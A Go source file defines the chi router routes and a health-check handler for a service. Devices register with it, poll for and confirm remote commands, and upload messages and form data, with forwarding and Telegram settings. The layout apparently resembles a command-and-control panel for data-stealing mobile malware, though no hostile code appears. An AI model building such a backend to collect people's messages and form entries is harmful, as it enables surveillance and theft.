package api

import (
	"net/http"

	"github.com/go-chi/chi/v5"
)

// routes builds the full route tree with the middleware chain applied.
func (s *Server) routes() http.Handler {
	r := chi.NewRouter()

	r.Use(requestIDMiddleware)
	r.Use(loggingMiddleware(s.logger))
	r.Use(recoveryMiddleware(s.logger))
	r.Use(corsMiddleware(s.cfg.API.CORS))
	r.Use(bodySizeLimitMiddleware)

	r.Get("/status", s.handleStatusPage)

	r.Route("/api", func(r chi.Router) {
		r.Get("/health", s.handleHealth)

		r.Post("/device/register", s.handleDeviceRegister)
		r.Get("/devices", s.handleListDevices)
		r.Delete("/device/{deviceID}", s.handleDeleteDevice)

		r.Post("/command/send", s.handleSendCommand)
		r.Get("/device/{deviceID}/commands", s.handlePollCommands)
		r.Post("/command/{commandID}/execute", s.handleConfirmExecuted)

		r.Get("/config/forwarding", s.handleGetForwarding)
		r.Post("/config/forwarding", s.handleSetForwarding)
		r.Get("/config/telegram", s.handleGetTelegram)
		r.Post("/config/telegram", s.handleSetTelegram)

		r.Post("/device/{deviceID}/messages", s.handleUploadMessage)
		r.Get("/device/{deviceID}/messages", s.handleListDeviceMessages)
		r.Get("/messages", s.handleListAllMessages)
		r.Delete("/messages/{messageID}", s.handleDeleteMessage)

		r.Post("/device/{deviceID}/forms", s.handleUploadForm)
		r.Get("/device/{deviceID}/forms", s.handleListDeviceForms)
		r.Get("/forms", s.handleListAllForms)
	})

	return r
}

// handleHealth reports liveness, including record store reachability.
func (s *Server) handleHealth(w http.ResponseWriter, r *http.Request) {
	if err := s.db.HealthCheck(r.Context()); err != nil {
		s.logger.Error("health check failed", "error", err)
		writeJSON(w, http.StatusServiceUnavailable, map[string]any{
			"status": "unhealthy",
		})
		return
	}

	writeJSON(w, http.StatusOK, map[string]any{
		"status":  "ok",
		"version": s.version,
	})
}
